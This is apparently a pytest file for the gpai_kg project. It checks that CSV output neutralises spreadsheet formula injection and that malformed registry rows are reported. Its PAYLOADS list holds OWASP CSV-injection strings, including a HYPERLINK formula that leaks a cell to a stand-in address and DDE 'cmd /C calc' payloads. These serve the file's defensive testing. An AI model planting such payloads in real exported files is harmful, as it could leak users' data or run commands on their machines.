"""Registries and the CSV gpai-kg writes: no formula injection, bad rows reported, merged rows caught.

OWASP's payloads (CSV Injection) in every column a registry feeds into the
screening CSV, and in a SPARQL result: each is written with a leading ``'``
so a spreadsheet shows it as text. A ``10^400`` cell and a row whose quote
merges the next rows are reported in the row's ``error`` column, and the
other rows are screened.
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from datetime import date

import pytest

from gpai_kg.files import csv_cell
from gpai_kg.publish.screening import write
from gpai_kg.reasoning.screen import screen
from gpai_kg.sparql.results import QueryResult

PAYLOADS = ['=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1", "\uff1d1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_neutralised(payload):
    assert csv_cell(payload) == "'" + payload


@pytest.mark.parametrize("number", ["-2.5", "+3", "-1e10", "3.8e+25", "0", "-0.5E-3"])
def test_a_plain_number_stays_a_number(number):
    assert csv_cell(number) == number


def _registry(tmp_path, rows: list[list[str]]):
    path = tmp_path / "registry.csv"
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows([["name", "training_compute_flop", "provider_country",
                                                     "placed_on_market_date"], *rows])
    path.write_bytes(out.getvalue().encode("utf-8"))
    return path


def _written(screening, tmp_path) -> list[dict[str, str]]:
    out = write(screening, tmp_path / "out.csv")
    return list(csv.DictReader(out.open(encoding="utf-8", newline="")))


def test_every_payload_in_every_column_of_the_screening_csv_is_neutralised(tmp_path):
    rows = [[p, p, p, p] for p in PAYLOADS] + [["Fine", "3e25", "FR", "2025-09-01"]]
    screening = screen(_registry(tmp_path, rows), date(2026, 9, 1))
    written = _written(screening, tmp_path)
    assert len(written) == len(PAYLOADS) + 1
    for row in written:
        for column, cell in row.items():
            assert not cell or cell[0] not in "=+-@\t\r\uff1d", (column, cell)
    assert any(r["name"] == "'" + PAYLOADS[0] for r in written)
    assert written[-1]["name"] == "Fine" and written[-1]["error"] == ""


def test_a_sparql_result_csv_is_neutralised():
    result = QueryResult("select", ("x",), tuple({"x": {"type": "literal", "value": p}} for p in PAYLOADS))
    cells = [row[0] for row in csv.reader(io.StringIO(result.to_csv()))][1:]
    assert cells == ["'" + p for p in PAYLOADS]


def test_the_cli_writes_the_neutralised_csv(tmp_path):
    path = _registry(tmp_path, [[PAYLOADS[0], "3e25", "FR", ""]])
    out = tmp_path / "out.csv"
    done = subprocess.run([sys.executable, "-m", "gpai_kg", "screen", str(path), "--out", str(out), "--as-of",
                           "2026-09-01"], capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    assert next(csv.DictReader(out.open(encoding="utf-8")))["name"] == "'" + PAYLOADS[0]


@pytest.mark.parametrize("cell, message", [("10^400", "10^400 is beyond the largest number"),
                                           ("1e400", "1e400 is beyond the largest number"),
                                           ("9" * 5000, "a number of 5000 digits"), ("lots", "must be a number"),
                                           ("-1", "must not be negative")])
def test_a_bad_cell_is_a_bad_row_and_the_others_go_on(tmp_path, cell, message):
    path = _registry(tmp_path, [["Before", "3e25", "FR", ""], ["Bad", cell, "FR", ""], ["After", "1e22", "US", ""]])
    screening = screen(path, date(2026, 9, 1))
    assert [r.name for r in screening.rows] == ["Before", "Bad", "After"]
    assert screening.rows[0].result and screening.rows[2].result
    assert screening.rows[1].result is None and message in screening.rows[1].error
    assert screening.summary["invalid rows"] == 1


def test_a_bad_cell_in_epochs_table_is_a_bad_row_too(tmp_path):
    from gpai_kg import paths

    bundled = paths.SOURCES_DIR / "models" / "epoch_notable_ai_models_2025-04-18.csv"
    rows = list(csv.DictReader(bundled.open(encoding="utf-8-sig", newline="")))[:3]
    rows[1]["Training compute (FLOP)"] = "10^400"
    path = tmp_path / "epoch.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    screening = screen(path, date(2026, 9, 1))
    assert screening.rows[1].result is None and "10^400 is beyond" in screening.rows[1].error
    assert screening.rows[0].result and screening.rows[2].result


def test_an_unbalanced_quote_that_merges_rows_is_reported(tmp_path):
    lines = ["name,training_compute_flop,provider_country,placed_on_market_date", 'Model A,3e25,FR,',
             '"Model B,2e25,FR,'] + [f"Model {c},1e2{i},US," for i, c in enumerate("CDEFGHI")] + \
        ['"Model J",1e22,US,', "Model K,1e21,DE,"]
    path = tmp_path / "quote.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    screening = screen(path, date(2026, 9, 1))
    bad = [r for r in screening.rows if r.error]
    assert len(bad) == 1 and "a quote (\") opened in the column 'name' on line 3" in bad[0].error
    assert "lines were read as one row" in bad[0].error
    assert [r.name for r in screening.rows if r.result] == ["Model A", "Model K"]


def test_a_row_with_the_wrong_number_of_cells_is_reported(tmp_path):
    path = tmp_path / "cells.csv"
    path.write_text("name,training_compute_flop\nA,1e25\nB,1e25,extra\nC\n", encoding="utf-8")
    screening = screen(path, date(2026, 9, 1))
    assert [r.error or "" for r in screening.rows] == ["", "line 3: 3 cells, the header has 2",
                                                       "line 4: 1 cells, the header has 2"]


def test_a_row_longer_than_a_description_may_be_is_reported(tmp_path):
    # its cells together, not any one of them (csv's limit is 128 KB a cell), pass the 1 MB of a description
    from gpai_kg.reasoning.registry import Registry

    header, cell = ["name", *(f"note {i}" for i in range(11))], "x" * (100 << 10)
    path = tmp_path / "long.csv"
    path.write_text("\n".join(",".join(row) for row in (header, ["A", *[""] * 11], [cell] * 12, ["C", *[""] * 11]))
                    + "\n", encoding="utf-8")
    rows = list(Registry(path).rows())
    assert [problem or "" for _, _, problem in rows] == [
        "", "line 3: more than 1 MB, the size limit of a model description", ""]
    assert [raw["name"] for _, raw, _ in rows] == ["A", "x" * 80, "C"]


def test_a_registry_is_read_within_its_size_limit(tmp_path):
    from gpai_kg.errors import UserError

    path = tmp_path / "big.csv"
    with path.open("wb") as fh:
        fh.truncate(40 << 20)
    with pytest.raises(UserError, match="40 MB, more than 32 MB, the size limit of a registry"):
        screen(path, date(2026, 9, 1))


def test_a_cell_holding_a_line_break_stays_one_cell():
    from gpai_kg.files import csv_text

    rows = list(csv.reader(io.StringIO(csv_text([["a", "b\rc"], ["d\ne", "f"]]), newline="")))
    assert rows == [["a", "b\rc"], ["d\ne", "f"]]
